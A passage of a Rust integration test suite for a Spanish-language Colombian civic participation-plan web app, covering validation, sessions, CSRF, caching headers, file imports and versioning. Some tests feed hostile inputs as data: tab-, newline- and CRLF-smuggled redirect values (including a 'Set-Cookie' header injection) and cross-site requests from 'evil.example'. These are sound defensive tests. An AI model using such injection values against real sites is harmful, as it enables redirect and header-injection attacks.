            r.body.contains("«Usuario» admite hasta 64 caracteres"),
            "{}",
            r.body
        );
    }
    let log_after = app.get("/admin/auditoria", Some(&admin)).await.body.len();
    assert!(
        log_after < log_before + 2_000,
        "the audit log grew from {log_before} to {log_after} bytes"
    );
    let login = app.get("/ingresar", None).await;
    assert!(
        login.body.contains(r#"name="usuario" maxlength="64""#),
        "{}",
        login.body
    );
    // A public form: a suggestion's text.
    let long = "y".repeat(LONG_LIMIT + 1);
    let r = app
        .post(
            "/sugerencias",
            None,
            &[("categoria", "vivienda"), ("texto", &long)],
        )
        .await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST);
    assert!(r.body.contains("«Texto» admite hasta 20"), "{}", r.body);
    // A staff form: the plan's title.
    let title = "t".repeat(301);
    let mut header = header_form();
    header[0] = ("titulo", &title);
    let r = app
        .post("/admin/planes/1/editar", Some(&admin), &header)
        .await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST);
    assert!(r.body.contains("«Título» admite hasta 300"), "{}", r.body);
    assert_ne!(app.store.plan(PlanId(1)).await.unwrap().title, title);
    let form = app.get("/admin/planes/1/editar", Some(&admin)).await;
    assert!(form.body.contains(r#"name="titulo" maxlength="300""#));
    // A multipart form: a progress report's narrative.
    let reporter = app.login("reporter").await;
    let r = app
        .post_files(
            "/admin/planes/1/seguimiento/actividades/13/avance",
            Some(&reporter),
            &[("periodo", "1"), ("avance", "20"), ("descripcion", &long)],
            &[],
        )
        .await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST);
    assert!(
        r.body.contains("«Descripción» admite hasta 20"),
        "{}",
        r.body
    );
    assert!(app
        .store
        .followup(PlanId(1))
        .await
        .unwrap()
        .reports
        .is_empty());
}

/// A public page that does not exist answers 404 with the GOV.CO bar, the navigation and
/// what to do next (portal, code lookup, contact), and the vendored Work Sans is served
/// with long cache headers next to its licence.
async fn a_missing_public_page_says_what_to_do_next(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let r = app.get("/esto-no-existe", None).await;
    assert_eq!(r.status, StatusCode::NOT_FOUND, "{}", r.body);
    for needle in [
        "href=\"https://www.gov.co/\"",
        "aria-label=\"Principal\"",
        "Qué puede hacer",
        "href=\"/consulta-codigo\"",
        "href=\"/sugerencias\"",
        "portal de participación",
        "href=\"/participa\"",
    ] {
        assert!(r.body.contains(needle), "{needle}: {}", r.body);
    }
    let f = app.get("/static/fonts/work-sans-400.woff2", None).await;
    assert_eq!(f.status, StatusCode::OK);
    assert_eq!(f.headers[axum::http::header::CONTENT_TYPE], "font/woff2");
    assert!(f.headers[axum::http::header::CACHE_CONTROL]
        .to_str()
        .unwrap()
        .contains("max-age=31536000"));
    assert!(f.bytes.starts_with(b"wOF2"));
    let l = app.get("/static/fonts/OFL.txt", None).await;
    assert!(l.body.contains("SIL Open Font License"), "{}", l.body);
    let home = app.get("/", None).await;
    assert!(home.body.contains("href=\"https://www.gov.co/\""));
}

/// A path or query string that does not parse gets this site's page in Spanish (404 for
/// a page that cannot exist, 400 for a filter that cannot be read), not axum's English.
async fn malformed_addresses_are_answered_in_spanish(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let admin = app.login("admin").await;
    for path in [
        "/admin/planes/abc",
        "/planes/99999999999999999999999",
        "/admin/planes/1/actividades/x/editar",
    ] {
        let r = app.get(path, Some(&admin)).await;
        assert_eq!(r.status, StatusCode::NOT_FOUND, "{path}: {}", r.body);
        assert!(
            r.body.contains("<html lang=\"es-CO\">"),
            "{path}: {}",
            r.body
        );
    }
    let r = app
        .get(
            "/admin/planes/1/versiones/diferencias?desde=x&hasta=2",
            Some(&admin),
        )
        .await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST, "{}", r.body);
    assert!(
        r.body
            .contains("La dirección trae un dato que no se entiende"),
        "{}",
        r.body
    );
    // A file form sent as something else.
    let r = app
        .post("/admin/planes/importar", Some(&admin), &[("archivo", "x")])
        .await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST, "{}", r.body);
    assert!(
        r.body.contains("El envío llegó incompleto o dañado"),
        "{}",
        r.body
    );
}

/// Issue 13, item 2: whatever `siguiente` says, the redirect after signing in stays on
/// this site (browsers drop a tab or newline in a URL, so `/\t/host` is `//host`), and
/// never answers 500.
async fn sign_in_never_sends_a_browser_to_another_site(db: TestDatabase) {
    let app = TestApp::new(db).await;
    for next in [
        "/\t/other-host/x",
        "/\n/other-host/x",
        "/\r\nSet-Cookie: x=1",
        "/\\other-host",
        "//other-host",
    ] {
        let r = app
            .post(
                "/ingresar",
                None,
                &[
                    ("usuario", "admin"),
                    ("clave", PASSWORD),
                    ("siguiente", next),
                ],
            )
            .await;
        assert_eq!(r.status, StatusCode::SEE_OTHER, "{next:?}: {}", r.body);
        // Refused, the staff member lands on the staff home, "Mis pendientes".
        assert_eq!(r.location.as_deref(), Some("/admin"), "{next:?}");
    }
    // A path of ours is still where the staff member goes.
    let r = app
        .post(
            "/ingresar",
            None,
            &[
                ("usuario", "admin"),
                ("clave", PASSWORD),
                ("siguiente", "/admin/planes/1/seguimiento?fecha=2025-09-30"),
            ],
        )
        .await;
    assert_eq!(
        r.location.as_deref(),
        Some("/admin/planes/1/seguimiento?fecha=2025-09-30")
    );
}

/// Issue 13, item 4: changing one's password ends every other session of that user (the
/// one that changed it goes on); an admin's reset ends all of the user's sessions.
async fn a_password_change_or_reset_ends_the_other_sessions(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let here = app.login("auditor").await;
    let elsewhere = app.login("auditor").await;
    assert_ne!(here, elsewhere);
    for c in [&here, &elsewhere] {
        assert_eq!(
            app.get("/admin/planes", Some(c)).await.status,
            StatusCode::OK
        );
    }
    let new = "otra clave de prueba bastante larga";
    let changed = app
        .post(
            "/admin/cuenta/clave",
            Some(&here),
            &[("actual", PASSWORD), ("nueva", new), ("repetir", new)],
        )
        .await;
    assert_eq!(changed.status, StatusCode::OK, "{}", changed.body);
    // The session id changed with the password: the browser got the new cookie.
    let here = changed.cookie.unwrap_or(here);
    assert_eq!(
        app.get("/admin/planes", Some(&here)).await.status,
        StatusCode::OK,
        "the session that changed it goes on"
    );
    let old = app.get("/admin/planes", Some(&elsewhere)).await;
    assert_eq!(old.status, StatusCode::SEE_OTHER, "the other session ended");
    assert!(old.location.unwrap().starts_with("/ingresar"));

    // An admin's reset ends every session of the user.
    let reporter = app.login("reporter").await;
    let admin = app.login("admin").await;
    let id = app
        .store
        .users()
        .await
        .unwrap()
        .into_iter()
        .find(|u| u.username == "reporter")
        .unwrap()
        .id;
    let reset = app
        .post(&format!("/admin/usuarios/{id}/clave"), Some(&admin), &[])
        .await;
    assert!(reset.status.is_success() || reset.status == StatusCode::SEE_OTHER);
    let gone = app.get("/admin/planes", Some(&reporter)).await;
    assert_eq!(gone.status, StatusCode::SEE_OTHER);
    assert!(gone.location.unwrap().starts_with("/ingresar"));
    assert_eq!(
        app.get("/admin/planes", Some(&admin)).await.status,
        StatusCode::OK,
        "the admin's own session is untouched"
    );
}

/// Issue 13, items 12 and 13: staff pages and downloads say `Cache-Control: no-store`;
/// with secure cookies (behind HTTPS) every response carries HSTS, and without them none.
async fn staff_pages_are_not_cached_and_https_is_remembered(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let cookie = app.login("admin").await;
    for path in [
        "/admin/planes",
        "/admin/planes/1/exportar/xlsx",
        "/admin/usuarios",
    ] {
        let response = app
            .router
            .clone()
            .oneshot(
                Request::get(path)
                    .header(header::HOST, HOST)
                    .header(header::COOKIE, &cookie)
                    .body(Body::empty())
                    .unwrap(),
            )
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::OK, "{path}");
        assert_eq!(
            response.headers().get(header::CACHE_CONTROL).unwrap(),
            "no-store",
            "{path}"
        );
        assert!(response
            .headers()
            .get(header::STRICT_TRANSPORT_SECURITY)
            .is_none());
    }
    // The public stylesheet stays cacheable.
    let css = app
        .router
        .clone()
        .oneshot(
            Request::get("/static/estilo.css")
                .body(Body::empty())
                .unwrap(),
        )
        .await
        .unwrap();
    assert_ne!(
        css.headers().get(header::CACHE_CONTROL).unwrap(),
        "no-store"
    );
    let https = participa_web::router(AppState::new(
        app.store.clone(),
        participa_web::Config {
            secure_cookies: true,
            ..Default::default()
        },
    ));
    for path in ["/", "/ingresar", "/admin/planes"] {
        let response = https
            .clone()
            .oneshot(
                Request::get(path)
                    .header(header::HOST, HOST)
                    .body(Body::empty())
                    .unwrap(),
            )
            .await
            .unwrap();
        assert_eq!(
            response
                .headers()
                .get(header::STRICT_TRANSPORT_SECURITY)
                .map(|v| v.to_str().unwrap()),
            Some("max-age=31536000"),
            "{path}"
        );
    }
}

async fn csrf_and_sessions(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let cookie = app.login("admin").await;
    // A state change without Origin or Sec-Fetch-Site, or from another site, is refused.
    let bare = Request::post("/admin/planes/1/estado")
        .header(header::HOST, HOST)
        .header(header::COOKIE, &cookie)
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .body(Body::from("accion=consolidar"))
        .unwrap();
    assert_eq!(app.send(bare).await.status, StatusCode::FORBIDDEN);
    let foreign = Request::post("/admin/planes/1/estado")
        .header(header::HOST, HOST)
        .header(header::ORIGIN, "https://evil.example")
        .header("sec-fetch-site", "cross-site")
        .header(header::COOKIE, &cookie)
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .body(Body::from("accion=consolidar"))
        .unwrap();
    assert_eq!(app.send(foreign).await.status, StatusCode::FORBIDDEN);
    // A sibling site (same-site but not same-origin) is refused too.
    let sibling = Request::post("/admin/planes/1/estado")
        .header(header::HOST, HOST)
        .header("sec-fetch-site", "same-site")
        .header(header::COOKIE, &cookie)
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .body(Body::from("accion=consolidar"))
        .unwrap();
    assert_eq!(app.send(sibling).await.status, StatusCode::FORBIDDEN);
    assert_eq!(
        app.store.plan_state(PlanId(1)).await.unwrap().status,
        participa_domain::PlanStatus::Draft
    );
    // Security headers.
    let home = app
        .router
        .clone()
        .oneshot(
            Request::get("/")
                .header(header::HOST, HOST)
                .body(Body::empty())
                .unwrap(),
        )
        .await
        .unwrap();
    let csp = home
        .headers()
        .get(header::CONTENT_SECURITY_POLICY)
        .unwrap()
        .to_str()
        .unwrap();
    assert!(csp.contains("frame-ancestors 'none'"));
    // Logging out ends the session on the server.
    let out = app.post("/salir", Some(&cookie), &[]).await;
    assert_eq!(out.status, StatusCode::SEE_OTHER);
    assert_eq!(
        outcome(&app.get("/admin/planes", Some(&cookie)).await),
        SignIn
    );
    // A deactivated user's session stops working.
    let rep = app.login("reporter").await;
    let admin = app.login("admin").await;
    let r = app
        .post(
            "/admin/usuarios/2",
            Some(&admin),
            &[
                ("nombre", "Usuario reporter"),
                ("rol", "reporter"),
                // An office written twice counts once (issue 13, item 18): no 500.
                ("dependencias", "ARCOM, ARCOM"),
            ],
        )
        .await;
    assert_eq!(outcome(&r), Allowed, "{}", r.body);
    assert_eq!(outcome(&app.get("/admin/planes", Some(&rep)).await), SignIn);
    // Failed logins: the name is kept, the message does not say which part was wrong,
    // and after five failures the form refuses even the right password.
    let bad = app
        .post(
            "/ingresar",
            None,
            &[("usuario", "auditor"), ("clave", "mala")],
        )
        .await;
    assert_eq!(bad.status, StatusCode::UNAUTHORIZED);
    assert!(bad.body.contains(r#"value="auditor""#));
    assert!(bad.body.contains("Usuario o contraseña incorrectos"));
    for _ in 0..4 {
        app.post(
            "/ingresar",
            None,
            &[("usuario", "auditor"), ("clave", "mala")],
        )
        .await;
    }
    let locked = app
        .post(
            "/ingresar",
            None,
            &[("usuario", "auditor"), ("clave", PASSWORD)],
        )
        .await;
    assert_eq!(locked.status, StatusCode::TOO_MANY_REQUESTS);
    // Failed logins are in the audit log.
    let log = app.get("/admin/auditoria", Some(&admin)).await;
    assert!(log.body.contains("auth.login_failed"));
    // Login only follows local paths.
    let evil = app
        .post(
            "/ingresar",
            None,
            &[
                ("usuario", "approver"),
                ("clave", PASSWORD),
                ("siguiente", "https://evil.example/"),
            ],
        )
        .await;
    assert_eq!(evil.location.as_deref(), Some("/admin"));
}

/// Issue 18, item 3: an upload is previewed before anything is written; a column the
/// names do not tell is given its field in the page, which is kept for the entity and
/// offered with its next file; only the person who uploaded a file sees its preview.
async fn an_import_is_previewed_its_columns_corrected_and_remembered(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let admin = app.login("admin").await;
    let layout = include_str!("../../formats/tests/layouts/meta-indicador.tsv");
    // «Qué haremos» is no known title: no row reads as the table's title row.
    let odd = layout.replace("\tActividad\tMeta", "\tQué haremos\tMeta");
    let upload = |bytes: Vec<u8>| {
        let admin = admin.clone();
        let app = &app;
        async move {
            app.post_files(
                "/admin/planes/importar",
                Some(&admin),
                &[],
                &[("archivo", "otra.tsv", &bytes)],
            )
            .await
        }
    };
    let r = upload(odd.clone().into_bytes()).await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);
    assert!(
        r.body.contains("No se importó nada de «otra.tsv»"),
        "{}",
        r.body
    );
    assert!(
        r.body.contains("Ninguna fila se leyó como la de títulos"),
        "{}",
        r.body
    );
    assert!(!r.body.contains("Importar el plan</button>"));
    let action = r
        .body
        .split("action=\"")
        .find_map(|x| x.split('"').next().filter(|a| a.ends_with("/columnas")))
        .expect("the columns form")
        .to_string();
    let preview = action.trim_end_matches("/columnas").to_string();
    // The column's drop-down: «Qué haremos» is column 1 of the row.
    assert!(
        r.body
            .contains("<label for=\"campo-1\">Qué haremos</label>"),
        "{}",
        r.body
    );
    // Another staff member cannot see or use this upload.
    let hash = password_auth::generate_hash(PASSWORD);
    testing::create_user(
        &app.store,
        "admin2",
        "Otra persona",
        Role::Admin,
        &[],
        &hash,
    )
    .await;
    let other = app.login("admin2").await;
    assert_eq!(
        app.get(&preview, Some(&other)).await.status,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        app.post(&preview, Some(&other), &[]).await.status,
        StatusCode::NOT_FOUND
    );
    let reporter = app.login("reporter").await;
    assert_eq!(
        app.get(&preview, Some(&reporter)).await.status,
        StatusCode::FORBIDDEN
    );
    // An unknown field is refused with a message, nothing kept.
    let bad = app
        .post(
            &action,
            Some(&admin),
            &[("titulo_1", "Qué haremos"), ("campo_1", "99")],
        )
        .await;
    assert_eq!(bad.status, StatusCode::BAD_REQUEST, "{}", bad.body);
    assert_eq!(app.store.import_mapping().await.unwrap(), "");
    // «Qué haremos» is the activity.
    let r = app
        .post(
            &action,
            Some(&admin),
            &[("titulo_1", "Qué haremos"), ("campo_1", "1")],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    let shown = app.get(&preview, Some(&admin)).await;
    assert!(
        shown.body.contains("El archivo se puede importar"),
        "{}",
        shown.body
    );
    assert!(
        shown.body.contains("Plan de Participación Ciudadana 2026 (vigencia 2026, Alcaldía de Tunja): 4 actividades."),
        "{}",
        shown.body
    );
    // The first activities as they will be stored, and the chosen field selected.
    assert!(shown
        .body
        .contains("Publicar el proyecto de plan para observaciones de la ciudadanía"));
    assert!(shown
        .body
        .contains("<dt>Presupuesto</dt><dd>$15.000.000</dd>"));
    assert!(shown
        .body
        .contains("<option value=\"1\" selected>Actividad</option>"));
    assert_eq!(
        app.store.plans().await.unwrap().len(),
        1,
        "nothing written yet"
    );
    let r = app.post(&preview, Some(&admin), &[]).await;
    assert_eq!(
        r.location.as_deref(),
        Some("/admin/planes/2?mensaje=importado"),
        "{}",
        r.body
    );
    // The upload is gone once imported.
    assert_eq!(
        app.get(&preview, Some(&admin)).await.status,
        StatusCode::NOT_FOUND
    );
    // The next file with the same titles is read with the entity's choice at once.
    let r = upload(odd.into_bytes()).await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    let again = app.get(r.location.as_deref().unwrap(), Some(&admin)).await;
    assert!(
        again
            .body
            .contains("con lo que la entidad eligió la última vez"),
        "{}",
        again.body
    );
    assert!(again.body.contains("El archivo se puede importar"));
    // The empty template, linked from the import page, lists the latest plan's offices.
    let form = app.get("/admin/planes/importar", Some(&admin)).await;
    assert!(form.body.contains("href=\"/admin/planes/plantilla.xlsx\""));
    let req = Request::get("/admin/planes/plantilla.xlsx")
        .header(header::HOST, HOST)
        .header(header::COOKIE, &admin)
        .body(Body::empty())
        .unwrap();
    let response = app.router.clone().oneshot(req).await.unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let bytes = axum::body::to_bytes(response.into_body(), 1 << 24)
        .await
        .unwrap();
    let (columns, found) =
        participa_formats::detect_columns("plantilla.xlsx", &bytes, &ReadOptions::default())
            .unwrap();
    assert!(found && columns.len() == 12, "{columns:?}");
    use calamine::Reader;
    let mut book: calamine::Xlsx<_> =
        calamine::open_workbook_from_rs(std::io::Cursor::new(bytes.to_vec())).unwrap();
    let lists = book.worksheet_range("Listas").unwrap();
    let offices: Vec<String> = lists
        .rows()
        .skip(1)
        .filter_map(|r| r.first().map(|c| c.to_string()))
        .filter(|c| !c.is_empty())
        .collect();
    assert!(
        offices.contains(&"SEPLA Secretaría de Planeación".to_string()),
        "{offices:?}"
    );
}

/// Issue 18, item 5: the entity's corrected file imported over its plan: activities
/// matched by number keep it (and what is linked to them), a change after publishing
/// opens a new version with its reason, and an activity the file lacks is removed only
/// when the person says so.
async fn a_corrected_file_is_imported_over_its_plan_and_nothing_is_dropped_silently(
    db: TestDatabase,
) {
    let app = TestApp::new(db).await;
    let admin = app.login("admin").await;
    let seed = String::from_utf8_lossy(SEED).to_string();
    let corrected: String = seed
        .replace(
            "Informe de resultados de chat, foro y encuesta.",
            "Informe de resultados del foro y de la encuesta.",
        )
        .lines()
        .filter(|l| !l.starts_with("15. "))
        .map(|l| format!("{l}\n"))
        .collect();
    let upload = || {
        let admin = admin.clone();
        let app = &app;
        let bytes = corrected.clone().into_bytes();
        async move {
            let r = app
                .post_files(
                    "/admin/planes/importar",
                    Some(&admin),
                    &[],
                    &[("archivo", "plan-corregido.txt", &bytes)],
                )
                .await;
            assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
            r.location.unwrap()
        }
    };
    let preview = upload().await;
    let compared = app.get(&format!("{preview}?sobre=1"), Some(&admin)).await;
    assert_eq!(compared.status, StatusCode::OK);
    for shown in [
        "Lo que cambiaría en «Plan de Participación Ciudadana 2025",
        "Actividades que cambian (1)",
        "«Informe de resultados de chat, foro y encuesta.» → «Informe de resultados del foro y de la encuesta.»",
        "Actividades del plan que el archivo no tiene (1)",
        "15. Divulgar los trámites y servicios",
    ] {
        assert!(compared.body.contains(shown), "{shown}: {}", compared.body);
    }
    // Kept unless asked: the draft is changed in place, activity 15 still there.
    let r = app
        .post(
            &format!("{preview}/version"),
            Some(&admin),
            &[("plan", "1")],
        )
        .await;
    assert_eq!(
        r.location.as_deref(),
        Some("/admin/planes/1?mensaje=guardado"),
        "{}",
        r.body
    );
    let plan = app.store.plan(PlanId(1)).await.unwrap();
    assert_eq!(plan.activities.len(), 15);
    assert_eq!(
        plan.activities[1].deliverable,
        "Informe de resultados del foro y de la encuesta."
    );
    assert_eq!(app.store.plans().await.unwrap().len(), 1, "no new plan");
    // Published, the same file opens version 2 and asks for its reason first.
    app.to_status(&[
        Transition::Consolidate,
        Transition::Review,
        Transition::Approve,
        Transition::Publish,
    ])
    .await;
    let preview = upload().await;
    let no_reason = app
        .post(
            &format!("{preview}/version"),
            Some(&admin),
            &[("plan", "1"), ("quitar", "si")],
        )
        .await;
    assert_eq!(no_reason.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        no_reason.body.contains("Escriba el motivo del cambio."),
        "{}",
        no_reason.body
    );
    assert_eq!(
        app.store.plan(PlanId(1)).await.unwrap().activities.len(),
        15
    );
    let r = app
        .post(
            &format!("{preview}/version"),
            Some(&admin),
            &[
                ("plan", "1"),
                ("quitar", "si"),
                (
                    "motivo",
                    "La actividad 15 se hará en el plan de comunicaciones",
                ),
            ],
        )
        .await;
    assert_eq!(
        r.location.as_deref(),
        Some("/admin/planes/1?mensaje=nueva-version"),
        "{}",
        r.body
    );
    let plan = app.store.plan(PlanId(1)).await.unwrap();
    let numbers: Vec<u32> = plan.activities.iter().map(|a| a.number.get()).collect();
    assert_eq!(numbers, (1..=14).collect::<Vec<u32>>());
    let audit = app.get("/admin/auditoria", Some(&admin)).await;
    assert!(
        audit
            .body
            .contains("Importó de nuevo el archivo de un plan"),
        "audited"
    );
    // Another entity's or an unknown plan is not found.
    let preview = upload().await;
    let r = app
        .post(
            &format!("{preview}/version"),
            Some(&admin),
            &[("plan", "99")],
        )
        .await;
    assert_eq!(r.status, StatusCode::NOT_FOUND);
}

async fn forms_keep_input_and_show_errors(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let admin = app.login("admin").await;
    let mut f = activity_form("Taller <b>con</b> veedurías", "ARCOM");
    f[1] = ("inicio", "2025-06-30");
    f[2] = ("fin", "2025-06-01");
    f.push(("numero", "16"));
    let r = app
        .post("/admin/planes/1/actividades/nueva", Some(&admin), &f)
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        r.body
            .contains("termina (1 jun 2025) antes de empezar (30 jun 2025)"),
        "{}",
        r.body
    );
    assert!(
        r.body
            .contains("Taller &#60;b&#62;con&#60;/b&#62; veedurías")
            || r.body.contains("Taller &lt;b&gt;con&lt;/b&gt; veedurías"),
        "typed text kept, escaped: {}",
        r.body
    );
    assert!(r.body.contains(r#"value="2025-06-30""#));
    assert!(r
        .body
        .contains(r#"id="fin" name="fin" type="date" value="2025-06-01" aria-invalid="true""#));
    assert_eq!(
        app.store.plan(PlanId(1)).await.unwrap().activities.len(),
        15
    );
    // An unreadable date and no office: both reported.
    let bad = app
        .post(
            "/admin/planes/1/actividades/nueva",
            Some(&admin),
            &[
                ("numero", "16"),
                ("descripcion", "X"),
                ("inicio", "31/02/2025"),
                ("fin", "2025-03-01"),
                ("entregable", "Y"),
            ],
        )
        .await;
    assert!(bad.body.contains("no es una fecha válida"), "{}", bad.body);
    assert!(bad.body.contains("Marque al menos una dependencia"));
    // Header form: a broken alignment chain is shown next to its field.
    let mut h = header_form();
    h[5] = ("od_codigo", "4.1");
    let r = app.post("/admin/planes/1/editar", Some(&admin), &h).await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(r.body.contains("no desciende de 5"), "{}", r.body);
    // Import errors are listed with their line, nothing is imported.
    let bad_file = String::from_utf8_lossy(SEED).replace("5-feb-25", "35-feb-25");
    let boundary = "XyZ";
    let body = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"archivo\"; filename=\"malo.txt\"\r\nContent-Type: text/plain\r\n\r\n{bad_file}\r\n--{boundary}--\r\n"
    );
    let req = Request::post("/admin/planes/importar")
        .header(header::HOST, HOST)
        .header(header::ORIGIN, ORIGIN)
        .header(header::COOKIE, &admin)
        .header(
            header::CONTENT_TYPE,
            format!("multipart/form-data; boundary={boundary}"),
        )
        .body(Body::from(body))
        .unwrap();
    let r = app.send(req).await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);
    assert!(
        r.body.contains("malo.txt") && r.body.contains("línea"),
        "{}",
        r.body
    );
    assert_eq!(app.store.plans().await.unwrap().len(), 1);
    // The good file imports.
    let body = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"archivo\"; filename=\"bueno.txt\"\r\nContent-Type: text/plain\r\n\r\n{}\r\n--{boundary}--\r\n",
        String::from_utf8_lossy(SEED)
    );
    let req = Request::post("/admin/planes/importar")
        .header(header::HOST, HOST)
        .header(header::ORIGIN, ORIGIN)
        .header(header::COOKIE, &admin)
        .header(
            header::CONTENT_TYPE,
            format!("multipart/form-data; boundary={boundary}"),
        )
        .body(Body::from(body))
        .unwrap();
    let r = app.send(req).await;
    // The upload shows its preview first; one more click imports it.
    let preview = r.location.clone().expect("the preview's address");
    assert!(preview.starts_with("/admin/planes/importar/"), "{preview}");
    let shown = app.get(&preview, Some(&admin)).await;
    assert!(
        shown.body.contains("El archivo se puede importar"),
        "{}",
        shown.body
    );
    let r = app.post(&preview, Some(&admin), &[]).await;
    assert_eq!(
        r.location.as_deref(),
        Some("/admin/planes/2?mensaje=importado"),
        "{}",
        r.body
    );
    // Another entity's layout (No. | Actividad | Meta | Indicador | Responsable | Fecha
    // inicio | Fecha fin | Producto o entregable | Presupuesto, dates as 01/02/2026):
    // its columns read by meaning, and what has no field of its own shown with the
    // activity.
    let other = include_str!("../../formats/tests/layouts/meta-indicador.tsv");
    let body = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"archivo\"; filename=\"otra.tsv\"\r\nContent-Type: text/plain\r\n\r\n{other}\r\n--{boundary}--\r\n"
    );
    let req = Request::post("/admin/planes/importar")
        .header(header::HOST, HOST)
        .header(header::ORIGIN, ORIGIN)
        .header(header::COOKIE, &admin)
        .header(
            header::CONTENT_TYPE,
            format!("multipart/form-data; boundary={boundary}"),
        )
        .body(Body::from(body))
        .unwrap();
    let r = app.send(req).await;
    let preview = r.location.clone().expect("the preview's address");
    let r = app.post(&preview, Some(&admin), &[]).await;
    assert_eq!(
        r.location.as_deref(),
        Some("/admin/planes/3?mensaje=importado"),
        "{}",
        r.body
    );
    let page = app.get("/admin/planes/3", Some(&admin)).await;
    for shown in [
        "Realizar la audiencia pública de rendición de cuentas",
        "<dt>Presupuesto</dt><dd>$15.000.000</dd>",
        "<dt>Indicador</dt><dd>Audiencias realizadas</dd>",
        "<dt>Meta</dt><dd>1 audiencia</dd>",
    ] {
        assert!(page.body.contains(shown), "{shown}: {}", page.body);
    }
}

async fn versions_and_diff(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let admin = app.login("admin").await;
    app.to_status(&[
        Transition::Consolidate,
        Transition::Review,
        Transition::Approve,
        Transition::Publish,
    ])
    .await;
    let no_reason = app
        .post(
            "/admin/planes/1/actividades/13/editar",
            Some(&admin),
            &activity_form("Redes", "ARCOM"),
        )
        .await;
    assert_eq!(no_reason.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(no_reason.body.contains("Escriba el motivo del cambio"));
    let mut f = activity_form("Publicar en redes sociales", "ARCOM");
    f.push(("motivo", "Cambio de alcance aprobado por el comité"));
    let r = app
        .post("/admin/planes/1/actividades/13/editar", Some(&admin), &f)
        .await;
    assert_eq!(
        r.location.as_deref(),
        Some("/admin/planes/1?mensaje=nueva-version#actividad-13")
    );
    let deleted = app
        .post("/admin/planes/1/actividades/14/eliminar", Some(&admin), &[])
        .await;
    assert_eq!(
        deleted.location.as_deref(),
        Some("/admin/planes/1?mensaje=eliminada")
    );
    let history = app.get("/admin/planes/1/versiones", Some(&admin)).await;
    assert!(history
        .body
        .contains("Cambio de alcance aprobado por el comité"));
    assert!(history.body.contains("Usuario admin"));
    let diff = app
        .get(
            "/admin/planes/1/versiones/diferencias?desde=1&hasta=2",
            Some(&admin),
        )
        .await;
    assert!(diff.body.contains("Actividad 13"), "{}", diff.body);
    assert!(
        diff.body.contains("<ins>Publicar en redes sociales</ins>"),
        "{}",
        diff.body
    );
    // The public still sees version 1.
    let public = app.get("/planes/1", None).await;
    assert!(public.body.contains("Versión 1, publicada"));
    assert!(!public.body.contains("Publicar en redes sociales"));
    let audit = app.get("/admin/auditoria?plan=1", Some(&admin)).await;
    assert!(audit.body.contains("activity.update"));
    // Once version 2 is published the public page (served from its cache) shows it.
    for step in ["consolidar", "revisar"] {
        app.post(
            "/admin/planes/1/estado",
            Some(&admin),
            &[("accion", step), ("confirmar", "si")],
        )
        .await;
    }
    let approver = app.login("approver").await;
    let today = participa_app::dates::today().to_string();
    app.post(
        "/admin/planes/1/estado",
        Some(&approver),
        &[
            ("accion", "aprobar"),
            ("acta_numero", "9"),
            ("acta_fecha", &today),
            ("confirmar", "si"),
        ],
    )
    .await;
    let r = app
        .post(
            "/admin/planes/1/estado",
            Some(&admin),
            &[("accion", "publicar"), ("confirmar", "si")],
        )
        .await;
    assert_eq!(outcome(&r), Allowed);
    let public = app.get("/planes/1", None).await;
    assert!(
        public.body.contains("Versión 2, publicada"),
        "{}",
        public.body
    );
    assert!(public.body.contains("Publicar en redes sociales"));
}

/// The table row of one legal parameter on the parameters page.
fn parameter_row<'a>(body: &'a str, key: &str) -> &'a str {
    let start = body
        .find(&format!("id=\"parametro-{key}\""))
        .unwrap_or_else(|| panic!("no row for {key}"));
    let rest = &body[start..];
    &rest[..rest.find("</tr>").unwrap()]
}

async fn rules_and_coverage(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let admin = app.login("admin").await;
    let c = Some(admin.as_str());

    // Each term with its norm, and the deadline it gives from a date.
    let page = app.get("/admin/parametros?fecha=2026-02-02", c).await;
    assert_eq!(page.status, StatusCode::OK);
    let row = parameter_row(&page.body, "peticion.general");
    assert!(
        row.contains("Ley 1437 de 2011 art. 14, sustituido por la Ley 1755 de 2015"),
        "{row}"
    );
    assert!(
        row.contains("15 días hábiles") && row.contains("lunes 23 feb 2026"),
        "{row}"
    );
    assert!(parameter_row(&page.body, "plan.publicacion").contains("31 de enero"));

    // A bad value is refused next to its field, keeping what was typed.
    let bad = app
        .post(
            "/admin/parametros",
            c,
            &[
                ("parametro", "peticion.general"),
                ("valor", "quince"),
                ("desde", "2026-01-01"),
                ("motivo", ""),
            ],
        )
        .await;
    assert_eq!(bad.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(bad.body.contains("value=\"quince\""), "typed value lost");
    assert!(bad.body.contains("id=\"valor-error\"") && bad.body.contains("id=\"motivo-error\""));

    // Changing the term changes the deadline computed from it; the audit log says who.
    let saved = app
        .post(
